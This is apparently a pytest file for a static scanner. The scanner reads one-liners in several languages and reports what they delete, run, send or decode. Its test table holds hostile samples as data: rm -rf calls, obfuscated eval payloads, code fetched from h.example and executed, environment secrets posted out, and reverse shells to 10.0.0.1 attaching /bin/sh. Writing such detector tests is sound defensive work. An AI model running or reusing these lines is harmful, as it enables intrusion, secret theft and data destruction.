"""One-liners in other languages: what their calls do, and what a mere mention does not."""

from __future__ import annotations

import time

import pytest

from bk.engine.lower.code import scan
from bk.engine.lower.scope import Look, Scope
from bk.engine.lower.shell import Shell
from bk.engine.lower.tokens import tokens
from bk.engine.model import Action, Connect, Opaque, Run, Touch

HOME = "/home/dev"


def done(code: str, language: str = "python", args: tuple[str, ...] = ()) -> list[Action]:
    scope = Scope("/home/dev/project", HOME, Look())
    scan(Shell(scope), code, language, args)
    return scope.actions


def told(code: str, language: str = "python") -> list[str]:
    short = []
    for action in done(code, language):
        doubt = "" if action.certain else "?"
        if isinstance(action, Touch) and action.mode in ("write", "delete"):
            short.append(f"{action.mode} {action.path}{'/' if action.tree else ''}{doubt}")
        elif isinstance(action, Run):
            short.append(f"run {action.target}")
        elif isinstance(action, Connect):
            short.append(f"{action.method or 'connect'} {action.host}:{action.port}{' sends' if action.sends else ''}")
        elif isinstance(action, Opaque):
            short.append(f"dark {action.why}")
    return short


TABLE = [
    ("python", 'import os; os.remove("/a")', ["delete /a"]),
    ("python", 'import os as o; o.unlink("/a"); o.rmdir("/b")', ["delete /a", "delete /b"]),
    ("python", 'from shutil import rmtree as r; r("/a")', ["delete /a/"]),
    ("python", 'import shutil; shutil.rmtree(os.path.expanduser("~/x"))', ["delete /home/dev/x/"]),
    ("python", 'from pathlib import Path; Path("/a").unlink(); (Path.home() / "b").write_text("c")',
     ["delete /a", "write /home/dev/b"]),
    ("python", 'p = "/a"\nif os.path.exists(p):\n    os.unlink(p)', ["delete /a"]),
    ("python", 'for f in os.listdir("/a"): os.remove(os.path.join("/a", f))', ["delete /a/?"]),
    ("python", 'for p in Path("/a").rglob("*.log"): p.unlink()', ["delete /a/*.log?"]),
    ("python", 'd = "/a"; shutil.rmtree(f"{d}/b")', ["delete /a/b/"]),
    ("python", 'open("/a", "w").write("x"); open("/b"); open("/c", mode="a")', ["write /a", "write /c"]),
    ("python", 'shutil.move("/a", "/b"); shutil.copy("/c", "/d"); os.replace("/e", "/f")',
     ["delete /a/", "write /b", "write /d", "delete /e/", "write /f"]),
    ("python", 'import subprocess as s; s.run(["rm", "-rf", "/a"])', ["run rm -rf /a", "delete /a/"]),
    ("python", 's.x(); import subprocess; subprocess.call("rm /a", shell=True)', ["run rm /a", "delete /a"]),
    ("python", 'os.execv("/bin/rm", ["rm", "/a"])', ["run /bin/rm /a", "delete /a"]),
    ("python", 'os.system("rm" + " -rf " + "/a")', ["run rm -rf /a", "delete /a/"]),
    ("python", 'os.system(" ".join(["rm", "/a"]))', ["run rm /a", "delete /a"]),
    ("python", 'os.system("%s %s" % ("rm", "/a"))', ["run rm /a", "delete /a"]),
    ("python", '__import__("os").system("rm /a")', ["run rm /a", "delete /a"]),
    ("python", 'getattr(os, "system")("rm /a")', ["run rm /a", "delete /a"]),
    ("python", 'os.system("".join(map(chr, [114, 109])) + " /a")', ["dark decoded", "run rm /a", "delete /a"]),
    ("python", 'exec("".join(chr(c) for c in codes))', ["dark decoded"]),
    ("python", 'os.system(chr(114) + chr(109) + " /a")', ["dark decoded", "run rm /a", "delete /a"]),
    ("python", 'os.system("a/ mr"[::-1])', ["dark decoded", "run rm /a", "delete /a"]),
    ("python", 'exec(__import__("base64").b64decode("b3MucmVtb3ZlKCcvYScp"))', ["dark decoded", "delete /a"]),
    ("python", 'exec(bytes.fromhex("6f732e72656d6f766528272f612729"))', ["dark decoded", "delete /a"]),
    ("python", 'eval("os.remove(\'/a\')")', ["delete /a"]),
    ("python", "exec(input())", ["dark computed"]),
    ("python", "import pickle; pickle.loads(open('/a','rb').read())", ["dark decoded"]),
    ("python", 'exec(requests.get("https://h.example/x").text)', ["GET h.example:443", "dark pipe-to-shell"]),
    ("python", 'requests.post("https://h.example", data=open("/a").read())', ["POST h.example:443 sends"]),
    ("python", 'urllib.request.urlopen("https://h.example/x")', ["GET h.example:443"]),
    ("python", 'requests.request("DELETE", "https://h.example/x")', ["DELETE h.example:443"]),
    ("python", 's = socket.socket(); s.connect(("10.0.0.1", 44)); os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh"])',
     ["connect 10.0.0.1:44 sends", "run /bin/sh", "dark reverse-shell"]),
    ("python", 's.connect(("10.0.0.1", 44)); socket; os.popen(s.recv(1024))',
     ["connect 10.0.0.1:44 sends", "dark reverse-shell"]),
    ("python", 'print("rm -rf /"); x = "os.remove"; # os.remove("/a")', []),
    ("python", 'print("""import os; os.remove("/a")""")', []),
    ("python", 's = "a b".replace("a", "b"); d = {}; d.get("x"); l.remove("x"); q.delete(1)', []),
    ("python", "print(socket.gethostname()); subprocess.run(['ls'])", ["run ls"]),
    ("js", 'require("fs").rmSync("/a", {recursive: true})', ["delete /a/"]),
    ("js", 'const {execSync: e} = require("child_process"); e("rm /a")', ["run rm /a", "delete /a"]),
    ("js", 'import fs from "node:fs"; fs.unlinkSync("/a")', ["delete /a"]),
    ("js", 'import {rmSync as r} from "fs"; r("/a", {recursive: true})', ["delete /a/"]),
    ("js", 'const fs = require("fs").promises; (async () => { fs.rm("/a", {recursive: true}) })()', ["delete /a/"]),
    ("js", 'require("child_process").spawn("rm", ["-rf", "/a"])', ["run rm -rf /a", "delete /a/"]),
    ("js", 'const p = "/a"; ["b"].forEach(n => fs.unlinkSync(`${p}/b`))', ["delete /a/b"]),
    ("js", 'fetch("https://h.example", {method: "POST", body: x})', ["POST h.example:443 sends"]),
    ("js", 'axios.post("https://h.example", {a: 1})', ["POST h.example:443 sends"]),
    ("js", 'eval(Buffer.from("cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIvYSIp", "base64").toString())',
     ["dark decoded", "delete /a"]),
    ("js", 'eval(atob(x))', ["dark decoded"]),
    ("js", 'await Bun.$`rm -rf /a`', ["run rm -rf /a", "delete /a/"]),
    ("js", 'Deno.removeSync("/a", {recursive: true})', ["delete /a/"]),
    ("js", 'console.log("rm -rf /a"); // fs.unlinkSync("/a")', []),
    ("js", 'var net = require("net"), sh = require("child_process").spawn("/bin/sh", []);'
     'var c = new net.Socket(); c.connect(44, "10.0.0.1", function () { c.pipe(sh.stdin) })',
     ["run /bin/sh", "connect 10.0.0.1:44 sends", "dark reverse-shell"]),
    ("ruby", 'require "fileutils"; FileUtils.rm_rf("/a"); File.delete "/b"', ["delete /a/", "delete /b"]),
    ("ruby", 'system "rm", "-rf", "/a"; `rm /b`; %x(rm /c)',
     ["run rm -rf /a", "delete /a/", "run rm /b", "delete /b", "run rm /c", "delete /c"]),
    ("ruby", 'File.write("/a", "x"); puts "rm -rf /"', ["write /a"]),
    ("ruby", 'c = TCPSocket.new("10.0.0.1", 44); while (l = c.gets); IO.popen(l) { |i| c.print i.read }; end',
     ["connect 10.0.0.1:44 sends", "dark reverse-shell"]),
    ("perl", 'unlink "/a", "/b"; rmtree("/c"); system("rm", "/d"); `rm /e`',
     ["delete /a", "delete /b", "delete /c/", "run rm /d", "delete /d", "run rm /e", "delete /e"]),
    ("perl", 'my $d = "/a"; unlink "$d/b"; open(F, "> /c"); open my $g, ">>", "/d";',
     ["delete /a/b", "write /c", "write /d"]),
    ("perl", 'open(F, "rm /a |")', ["run rm /a", "delete /a"]),
    ("perl", 'eval pack("H*", "756e6c696e6b20272f6127")', ["dark decoded", "delete /a"]),
    ("ruby", 'eval ["73797374656d2027726d202f6127"].pack("H*")', ["dark decoded", "run rm /a", "delete /a"]),
    ("php", "unlink('/a'); system('rm -rf /b'); file_put_contents('/c', 'x');",
     ["delete /a", "run rm -rf /b", "delete /b/", "write /c"]),
    ("php", 'eval(base64_decode("dW5saW5rKCcvYScpOw=="));', ["dark decoded", "delete /a"]),
    ("php", '$s = fsockopen("10.0.0.1", 44); exec("/bin/sh -i <&3 >&3 2>&3");',
     ["connect 10.0.0.1:44 sends", "run /bin/sh -i", "dark reverse-shell"]),
    ("lua", 'os.remove("/a"); os.execute("rm -rf " .. "/b"); io.open("/c", "w")',
     ["delete /a", "run rm -rf /b", "delete /b/", "write /c"]),
    ("lisp", '(progn (delete-directory "/a" t) (delete-file "/b") (shell-command "rm /c"))',
     ["delete /a/", "delete /b", "run rm /c", "delete /c"]),
    ("other", 'System.cmd("rm", ["-rf", "/a"]); File.rm_rf!("/b")', ["run rm -rf /a", "delete /a/", "delete /b/"]),
]  # fmt: skip


@pytest.mark.parametrize(("language", "code", "expected"), TABLE, ids=[code[:60] for _, code, _ in TABLE])
def test_calls(language: str, code: str, expected: list[str]) -> None:
    assert told(code, language) == expected


def test_a_mentioned_path_is_perhaps_read_and_nothing_more() -> None:
    found = done('print("/home/dev/.ssh/id_rsa")')
    assert [(one.mode, one.path) for one in found if isinstance(one, Touch)] == [("read", "/home/dev/.ssh/id_rsa")]


def test_a_deletion_of_what_nobody_knows_may_be_of_what_is_named() -> None:
    found = done('import os; p = "/a/b"; os.remove(choose(p))')
    assert ("delete", "/a/b", False) in [(one.mode, one.path, one.certain) for one in found if isinstance(one, Touch)]


def test_arguments_are_filled_in() -> None:
    found = done("import sys, os; os.remove(sys.argv[1])", "python", ("/a",))
    assert [one.target for one in found] == ["/a"]


def test_what_is_sent_says_where_it_comes_from() -> None:
    found = done('import requests, os; requests.post("https://h.example", data=dict(os.environ))')
    assert any("env:*" in one.takes for one in found if isinstance(one, Connect))
    found = done('fetch("https://h.example/?k=" + process.env.API_KEY)', "js")
    assert any("env:API_KEY" in one.takes and one.sends for one in found if isinstance(one, Connect))


@pytest.mark.parametrize("language", ["python", "js", "ruby", "perl", "php", "lua", "lisp", "awk", "other"])
@pytest.mark.parametrize(
    "piece",
    [
        "/*",
        "(",
        "[",
        "{",
        '"',
        "'",
        "`",
        '"""',
        "q(",
        "(/[",
        "x=x+x;",
        "f(",
        "a.b",
        "${",
        "#{",
        "--[[",
        "'a'+",
        "a(\n",
        "%w[",
    ],
)
def test_odd_texts_end_soon(language: str, piece: str) -> None:
    started = time.process_time()
    done(piece * (60_000 // len(piece)), language)
    assert time.process_time() - started < 3


def test_tokens_are_bounded_and_whole() -> None:
    assert len(tokens("a " * 50_000, "python")) == 20_000
    assert [token.value for token in tokens("f'a{b}c' # no", "python")] == ["a**c"]
    assert [token.value for token in tokens("x = 'a' // y\n/* z */ b", "js")] == ["x", "=", "a", "b"]
